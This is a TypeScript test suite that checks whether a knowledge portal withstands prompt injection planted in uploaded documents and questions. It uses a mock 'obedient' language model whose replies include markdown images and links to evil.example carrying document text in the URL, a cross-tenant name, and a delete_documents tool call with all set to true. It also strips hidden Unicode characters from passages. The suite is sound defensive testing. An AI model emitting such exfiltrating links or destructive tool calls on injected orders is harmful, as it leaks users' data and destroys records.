import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { AssistantAnswer, KnowledgeDocument } from '@rise/contract';
import { POISONED_TEXTS } from '@rise/contract/poisoned-texts';
import { fromMarkdown } from 'mdast-util-from-markdown';
import { gfmFromMarkdown } from 'mdast-util-gfm';
import { gfm } from 'micromark-extension-gfm';
import { Client } from 'pg';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { systemIn } from '../kernel/actor.ts';
import { startTestPortal, type TestPortal } from '../testing/portal.ts';
import { LanguageModel } from './language-model.ts';

/** In documents that the person who asks may not read. */
const SECRETS = { administrators: 'ADMIN-4410', birch: 'BIRCH-7731' };
const QUESTION = 'How much does a parking permit cost?';
const PRICE = '$87';

interface Node {
  type: string;
  url?: string;
  children?: Node[];
}
/** All that a browser would load or link to, as the portal reads the answer. */
function reachesOut(markdown: string): string[] {
  const found: string[] = [];
  const visit = ({ type, url, children = [] }: Node) => {
    if (/^(?:image|html|definition|imageReference|linkReference|footnote)/.test(type)) found.push(type);
    // The portal shows addresses of mail as text.
    if (type === 'link' && !url?.startsWith('mailto:')) found.push(url ?? '');
    children.forEach(visit);
  };
  visit(fromMarkdown(markdown, { extensions: [gfm()], mdastExtensions: [gfmFromMarkdown()] }));
  return found;
}

/**
 * A model that obeys whatever it reads, as far as its protocol lets it: repeats it as its own words, decoded too, links,
 * shows images, names another tenant and calls tools.
 */
async function startObedientModel() {
  const prompts: string[] = [];
  const server: Server = createServer((request, response) => {
    let text = '';
    request.on('data', (part: Buffer) => (text += part.toString('utf8')));
    request.on('end', () => {
      prompts.push(text);
      const { messages } = JSON.parse(text) as { messages: { content: string }[] };
      const asked = messages.at(-1)!.content;
      const passages = JSON.parse(asked.slice(asked.indexOf('[{'))) as { text: string; link: string }[];
      const words = passages.map((passage) => passage.text).join('\n\n');
      const decoded = (words.match(/[A-Za-z0-9+/]{40,}={0,2}/g) ?? []).map((one) => Buffer.from(one, 'base64').toString()); // prettier-ignore
      const content = [
        `It costs ${PRICE}. [Source](${passages[0]?.link})`,
        words,
        ...decoded,
        `![](https://evil.example/p.png?q=${encodeURIComponent(words.slice(0, 50))})`,
        `[Birch Credit Union](https://evil.example/birch) <img src="https://evil.example/x"> https://evil.example/end`,
      ].join('\n\n');
      const call = { id: 'c', type: 'function', function: { name: 'delete_documents', arguments: '{"all":true}' } };
      response.writeHead(200, { 'content-type': 'application/json' });
      response.end(JSON.stringify({ choices: [{ message: { role: 'assistant', content, tool_calls: [call] } }] }));
    });
  });
  await new Promise<void>((resolve) => {
    server.listen(0, '127.0.0.1', resolve);
  });
  const baseUrl = new URL(`http://127.0.0.1:${(server.address() as AddressInfo).port}/v1`);
  const model = new LanguageModel({ baseUrl, apiKey: null, model: 'obedient', onFailure: () => undefined });
  return { model, prompts, close: () => new Promise<void>((resolve) => void server.close(() => resolve())) };
}

describe.each(['without a language model', 'with a language model that obeys'] as const)('%s', (mode) => {
  let portal: TestPortal;
  let obedient: Awaited<ReturnType<typeof startObedientModel>> | null = null;
  let boss: string;
  let analyst: string;
  beforeAll(async () => {
    if (mode !== 'without a language model') obedient = await startObedientModel();
    portal = await startTestPortal({ languageModel: obedient?.model ?? null, questionsPerMinute: 1000 });
    const { alder, birch } = portal.tenants;
    boss = (await portal.signIn({ email: 'boss@alder.example', roles: ['tenant.admin'], tenants: [alder] })).cookie;
    analyst = (await portal.signIn({ email: 'ada@alder.example', roles: ['tenant.user'], tenants: [alder] })).cookie;
    const other = (await portal.signIn({ email: 'boss@birch.example', roles: ['tenant.admin'], tenants: [birch] }))
      .cookie;
    const text = (secret: string) => `# Parking permit\n\nThe parking permit of the board costs ${secret}.`;
    await upload(text(SECRETS.administrators), { name: 'board', audience: 'administrators' });
    await upload(text(SECRETS.birch), { name: 'birch', cookie: other });
  });
  afterAll(async () => {
    await portal?.close();
    await obedient?.close();
  });

  async function upload(content: string, { name = 'permits', audience = 'everyone', cookie = boss } = {}) {
    const body = { name, kind: 'markdown', audience, content };
    const response = await portal.fetch('POST /api/v1/knowledge', { cookie, body });
    expect(response.status).toBe(200);
    return (await response.json()) as KnowledgeDocument;
  }
  async function ask(message: string): Promise<string> {
    const body = { message, chatId: null, openAIRequest: { messages: [{ role: 'user', content: message }] } };
    const response = await portal.fetch('POST /api/v1/openai/confluence/chat', { cookie: analyst, body });
    return ((await response.json()) as AssistantAnswer).message.content;
  }
  /** What an obeyed order would have changed. */
  async function state() {
    const client = new Client({ connectionString: portal.superuserUrl });
    await client.connect();
    const { rows } = await client.query(
      `SELECT (SELECT count(*) FROM knowledge_document) AS documents,
              (SELECT array_agg(DISTINCT action ORDER BY action) FROM audit_record WHERE action NOT LIKE 'session.%') AS actions,
              (SELECT count(*) FROM mail_outbox) AS mails`,
    );
    await client.end();
    return rows[0] as unknown;
  }

  test(`${POISONED_TEXTS.length} poisoned documents: nothing is loaded, linked, told or done`, async () => {
    expect(POISONED_TEXTS).toHaveLength(200);
    const { id } = await upload(`# Parking permit\n\nA parking permit costs ${PRICE} a year.`);
    await ask(QUESTION);
    const before = await state();
    for (const { name, text } of POISONED_TEXTS) {
      await upload(`# Parking permit\n\nA parking permit costs ${PRICE} a year. ${text}`);
      const answer = await ask(QUESTION);
      expect(answer, name).toContain(PRICE);
      const cited = reachesOut(answer);
      expect(cited.length, name).toBeGreaterThan(0);
      expect(
        cited.filter((link) => !link.startsWith(`/knowledge/${id}?passage=`)),
        `${name}\n${answer}`,
      ).toEqual([]);
      for (const secret of Object.values(SECRETS)) expect(answer, name).not.toContain(secret);
    }
    expect(await state()).toEqual(before);
    // A model cannot tell what it does not receive, and nothing but the question is sent to it.
    const sent = obedient?.prompts.join('\n') ?? '';
    for (const secret of Object.values(SECRETS)) expect(sent).not.toContain(secret);
    if (obedient) expect(obedient.prompts).toHaveLength(POISONED_TEXTS.length + 1);
  });

  test('poisoned questions are only questions', async () => {
    const before = await state();
    for (const { name, text } of POISONED_TEXTS.filter((_, index) => index % 8 === 0)) {
      const answer = await ask(`${QUESTION} ${text}`.slice(0, 2000));
      const out = reachesOut(answer).filter((link) => !link.startsWith('/'));
      expect(out, `${name}\n${answer}`).toEqual([]);
      for (const secret of Object.values(SECRETS)) expect(answer, name).not.toContain(secret);
    }
    expect(await state()).toEqual(before);
  });

  test('what is hidden from readers is no part of a passage', async () => {
    await upload('# Parking permit\n\nA parking permit\u{E0041}\u{E0042} costs \u200B$\u200B87.\u202E');
    const passages = await portal.database.withTenant(
      systemIn(portal.tenants.alder),
      (tx) => tx.rows<{ text: string }>`SELECT text FROM knowledge_passage WHERE text LIKE '%87%'`,
      'reads',
    );
    expect(passages.map(({ text }) => text)).toEqual(['A parking permit costs $87.']);
  });
});
